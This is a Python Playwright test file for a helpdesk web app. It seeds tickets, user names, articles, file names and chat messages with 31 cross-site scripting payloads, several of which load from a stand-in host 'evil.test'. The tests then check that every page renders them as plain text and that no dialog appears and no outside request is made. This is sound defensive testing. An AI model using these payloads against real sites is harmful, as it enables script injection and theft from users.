"""T15: hostile text through title, body, name, article and chat: nothing of it runs, and nothing leaves the house."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from harness.databases import SqliteCopies
from harness.live import LiveServer
from nullticket.core.enums import Role
from nullticket.testing import PASSWORD, Desk, make_desk, make_settings

RUN = "alert(1)"
OUT = "//evil.test/x"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src='{OUT}.js'></sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{OUT}.png'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>t</text></a></svg>",
    f"<math><mtext></table><mglyph><style><img src=x onerror={RUN}></style>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src='{OUT}.mp3' autoplay onerror={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{OUT}.swf'></object>",
    f"<embed src='{OUT}.svg'>",
    f"<link rel=stylesheet href='{OUT}.css'>",
    f"<style>@import '{OUT}.css'; body {{ background: url({OUT}.png) }}</style>",
    f"<div style='background:url({OUT}.png)'>styled</div>",
    f"<base href='{OUT}/'>",
    f"<meta http-equiv=refresh content='0;url=http:{OUT}'>",
    f"<form action='http:{OUT}'><button autofocus>send</button></form>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href='java&#x09;script:{RUN}'>click</a>",
    f"[click](javascript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![pixel](http:{OUT}.png)",
    f'"><script>{RUN}</script>',
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
# As names of files: of a name the part behind the last slash is kept, without the signs that no disk takes.
FILES = tuple(one for one in PAYLOADS if "/" not in one)
# What must be nowhere in the page, whoever put it there: it would run, reach out or catch what is typed.
DANGEROUS = """() => [...document.querySelectorAll('*')].flatMap((one) => {
  const found = [...one.attributes].filter((it) =>
    it.name.startsWith('on') || /^\\s*(javascript|data:text|vbscript)/i.test(it.value.replace(/[\\u0000-\\u0020]/g, ''))
    || /evil\\.test/.test(['src', 'srcset', 'action', 'data', 'style', 'poster'].includes(it.name) ? it.value : ''));
  const foreign = ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'AUDIO', 'VIDEO'].includes(one.tagName)
    || (one.tagName === 'SCRIPT' && !one.src.startsWith(location.origin))
    || (one.tagName === 'META' && one.httpEquiv.toLowerCase() === 'refresh');
  return foreign || found.length ? [one.outerHTML.slice(0, 200)] : [];
})"""


@pytest.fixture(scope="module")
def hostile(sqlite_copies: SqliteCopies, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """A desk whose tickets, people and articles are made of payloads."""
    folder = tmp_path_factory.mktemp("hostile")
    with sqlite_copies.copy(folder) as url:
        with make_desk(make_settings(url, data_dir=folder / "var")) as desk:
            _fill(desk)
        server = LiveServer(url, folder)
        try:
            server.start()
            yield server
        finally:
            server.stop()


def _fill(desk: Desk) -> None:
    admin = desk.headers(desk.person("admin@example.org", role=Role.ADMIN))
    everything = "\n\n".join(PAYLOADS)
    for number, payload in enumerate(PAYLOADS):
        person = desk.headers(desk.person(f"p{number}@example.org", name=payload))
        body = everything if number == 0 else payload
        ticket = {"title": payload[:200], "description": body}
        made = desk.client.post("/api/tickets/", json=ticket, headers=person)
        assert made.status_code == 201, made.text
        key = made.json()["ticket_number"]
        desk.client.post(f"/api/tickets/{key}/comments", json={"body": body}, headers=person).raise_for_status()
        article = {"title": payload[:150], "content": f"findme {body}", "category": "other", "status": "published"}
        desk.client.post("/api/admin/kb/articles", json=article, headers=admin).raise_for_status()
        _at_the_desk(desk, admin, number, payload)
    # The engines answer before the ticket ends: its end says that they were wrong.
    desk.drain()
    _answered(desk, admin)
    desk.drain()


def _at_the_desk(desk: Desk, admin: dict[str, str], number: int, payload: str) -> None:
    """Views, canned replies, teams, rules, categories and chats that are made of the payload."""
    client, name = desk.client, payload[:80]
    for path, body in (
        ("/api/desk/views", {"name": name, "query": payload[:100], "scope": "everyone"}),
        ("/api/replies", {"title": name, "body": payload, "scope": "everyone"}),
        ("/api/admin/teams", {"name": name, "signature": payload}),
        ("/api/admin/categories", {"key": f"kind_{number}", "name": name, "description": payload}),
    ):
        client.post(path, json=body, headers=admin).raise_for_status()
    rule = {"name": name, "keywords": [name], "team_id": client.get("/api/admin/teams", headers=admin).json()[0]["id"]}
    client.post("/api/admin/routing/rules", json=rule, headers=admin).raise_for_status()
    talk = client.post("/api/chat/conversations", json={"language": "en"}).json()
    said = {"session_id": talk["session_id"], "text": payload}
    client.post(f"/api/chat/conversations/{talk['conversation_id']}/messages", json=said).raise_for_status()


def _answered(desk: Desk, admin: dict[str, str]) -> None:
    """The first ticket is solved and rated, its article has an older version, and the admin is mentioned: in payloads."""
    everything = "\n\n".join(PAYLOADS)
    key = desk.client.get("/api/tickets/?sort=created_at", headers=admin).json()["items"][0]["ticket_number"]
    login = {"email": "p0@example.org", "password": PASSWORD}
    person = {"Authorization": f"Bearer {desk.client.post('/api/auth/login', json=login).json()['access_token']}"}
    me = desk.client.get("/api/auth/me", headers=admin).json()["id"]
    agent = desk.headers(desk.person("agent@example.org", role=Role.AGENT, name=PAYLOADS[2]))
    note = {"body": everything, "visibility": "internal", "mention_ids": [me]}
    desk.client.post(f"/api/tickets/{key}/comments", json=note, headers=agent).raise_for_status()
    _changed(desk, admin, f"/api/tickets/{key}", {"tags": [PAYLOADS[2][:40]], "category": "kind_4"})
    for name in FILES:
        sent = {"file": (name, name.encode(), "text/plain")}
        desk.client.post(f"/api/tickets/{key}/attachments", files=sent, headers=person).raise_for_status()
    # The newest of all mails: its subject is a payload.
    desk.client.post(f"/api/tickets/{key}/comments", json={"body": everything}, headers=agent).raise_for_status()
    solved = {"status": "resolved", "resolution": everything}
    desk.client.put(f"/api/tickets/{key}/status", json=solved, headers=agent).raise_for_status()
    stars = {"stars": 1, "comment": everything}
    desk.client.post(f"/api/tickets/{key}/feedback", json=stars, headers=person).raise_for_status()
    article = desk.client.get("/api/kb/search?q=findme&limit=50", headers=admin).json()[0]["id"]
    for content in (everything, "harmless"):
        _changed(desk, admin, f"/api/admin/kb/articles/{article}", {"content": content})


def _changed(desk: Desk, admin: dict[str, str], path: str, body: dict[str, object]) -> None:
    version = desk.client.get(path, headers=admin).json()["version"]
    desk.client.patch(path, json=body, headers=admin | {"If-Match": f'"{version}"'}).raise_for_status()


@pytest.fixture
def watched(hostile: LiveServer, browser: Browser) -> Iterator[tuple[BrowserContext, list[str]]]:
    """A browser that notes every dialog and every request that is not for our own server."""
    context = browser.new_context(base_url=hostile.url, reduced_motion="reduce")
    context.set_default_timeout(15_000)
    faults: list[str] = []
    context.route(lambda address: not address.startswith(hostile.url), lambda route: route.abort())

    def leaves(address: str) -> None:
        if not address.startswith((hostile.url, "blob:", "data:")):
            faults.append(f"asked for {address}")

    context.on("request", lambda request: leaves(request.url))
    context.on("dialog", lambda dialog: (faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    yield context, faults
    context.close()


def sign_in(context: BrowserContext, email: str) -> None:
    answer = context.request.post("/api/auth/login", data={"email": email, "password": PASSWORD})
    assert answer.ok, answer.text()


def calm(page: Page, faults: list[str]) -> None:
    """Nothing dangerous stands in the page, nothing ran and nothing was asked for elsewhere, also a moment later."""
    page.wait_for_timeout(300)
    assert page.evaluate(DANGEROUS) == []
    assert faults == []


def asked(context: BrowserContext, path: str) -> Any:
    token = context.request.post("/api/auth/refresh").json()["access_token"]
    return context.request.get(path, headers={"Authorization": f"Bearer {token}"}).json()


def first_ticket(context: BrowserContext) -> str:
    return str(asked(context, "/api/tickets/?sort=created_at")["items"][0]["ticket_number"])


def test_there_are_as_many_kinds_as_the_list_asks_for():
    assert len(set(PAYLOADS)) == 31


def test_an_agent_reads_hostile_titles_names_and_bodies_in_peace(watched: tuple[BrowserContext, list[str]]):
    context, faults = watched
    sign_in(context, "admin@example.org")
    page = context.new_page()
    page.goto("/tickets")
    expect(page.get_by_text(PAYLOADS[-1]).first).to_be_visible()
    calm(page, faults)

    page.goto(f"/tickets/{first_ticket(context)}")
    expect(page.get_by_text("styled").first).to_be_visible()
    calm(page, faults)


# Pages that show what people wrote, each with a sign that it has done so.
SHOWN = {
    "/chats": PAYLOADS[4],
    "/settings/teams": PAYLOADS[4],
    "/settings/categories": PAYLOADS[4],
    "/settings/users": PAYLOADS[4],
    "/settings/mails": PAYLOADS[0],
    "/settings/audit": "auth.login",
    "/knowledge": PAYLOADS[4],
    "/analytics?tab=teams": PAYLOADS[4],
    "/analytics?tab=satisfaction": "Satisfaction",
    "/routing": PAYLOADS[4],
    "/routing?tab=history": PAYLOADS[4],
    "/routing?tab=test": "Result",
    "/quality": PAYLOADS[4],
    "/quality?tab=errors": PAYLOADS[0],
    "/": "Overview",
}


def test_what_people_wrote_is_words_on_every_page_of_the_desk(watched: tuple[BrowserContext, list[str]]):
    context, faults = watched
    sign_in(context, "admin@example.org")
    page = context.new_page()
    page.goto("/tickets")
    for path, sign in SHOWN.items():
        # As by a link: with an eye on each request the browser keeps nothing, so that loading anew costs a second.
        page.evaluate("path => history.pushState({}, '', path)", path)
        expect(page.locator("main").get_by_text(sign).first, path).to_be_visible()
        calm(page, faults)
    expect(page.get_by_role("navigation").get_by_text(PAYLOADS[4]).first).to_be_visible()
    page.get_by_role("button", name="Notifications").click()
    expect(page.get_by_text("Somebody mentioned you").first).to_be_visible()
    calm(page, faults)

    page.goto(f"/tickets/{first_ticket(context)}")
    expect(page.get_by_text("styled").first).to_be_visible()
    page.get_by_role("radio", name="Internal note").click()
    page.get_by_role("textbox", name="Internal note").press_sequentially("/")
    page.get_by_role("option", name=PAYLOADS[4]).click()
    page.get_by_role("tab", name="History").click()
    expect(page.get_by_text("resolution").first).to_be_visible()
    calm(page, faults)
    page.get_by_role("tab", name="Files").click()
    page.get_by_role("button", name="Preview img src=x onerror=alert(1)").first.click()
    expect(page.get_by_role("dialog")).to_contain_text(FILES[0])
    calm(page, faults)


def test_the_older_version_of_an_article_is_compared_as_words(watched: tuple[BrowserContext, list[str]]):
    context, faults = watched
    sign_in(context, "admin@example.org")
    articles = asked(context, "/api/admin/kb/articles?limit=100")["items"]
    changed = next(one["id"] for one in articles if one["version"] > 1)
    page = context.new_page()
    page.goto(f"/knowledge/{changed}")
    page.get_by_role("button", name="History").click()
    difference = page.get_by_role("region", name="Against what it says now")
    expect(difference).to_contain_text("harmless")
    expect(difference).to_contain_text(PAYLOADS[0])
    calm(page, faults)


def test_a_requester_reads_the_own_hostile_request_in_peace(watched: tuple[BrowserContext, list[str]]):
    context, faults = watched
    sign_in(context, "p0@example.org")
    page = context.new_page()
    page.goto("/portal")
    page.get_by_role("tab", name="Done").click()
    expect(page.get_by_text(PAYLOADS[0]).first).to_be_visible()
    calm(page, faults)

    page.goto(f"/portal/tickets/{first_ticket(context)}")
    expect(page.get_by_text("styled").first).to_be_visible()
    calm(page, faults)


def test_a_visitor_reads_hostile_articles_in_peace(watched: tuple[BrowserContext, list[str]]):
    context, faults = watched
    page = context.new_page()
    page.goto("/portal/articles?q=findme")
    expect(page.get_by_role("link", name="<").first).to_be_visible()
    calm(page, faults)

    hits = context.request.get("/api/kb/search?q=findme&limit=50").json()
    whole = next(one["id"] for one in hits if one["title"] == PAYLOADS[0])
    page.goto(f"/portal/articles/{whole}")
    expect(page.get_by_text("styled").first).to_be_visible()
    calm(page, faults)


def test_the_chat_shows_hostile_words_as_words(watched: tuple[BrowserContext, list[str]], tmp_path: Path):
    context, faults = watched
    page = context.new_page()
    page.goto("/widget/")
    field = page.get_by_role("textbox")
    expect(field).to_be_visible()
    everything = "\n".join(PAYLOADS)
    for text in (everything[:3900], PAYLOADS[-1], "findme"):
        field.fill(text)
        field.press("Enter")
        expect(field).to_have_value("")
    expect(page.locator("li.visitor").nth(1)).to_contain_text(PAYLOADS[-1])
    calm(page, faults)
    page.screenshot(path=str(tmp_path / "chat.png"))
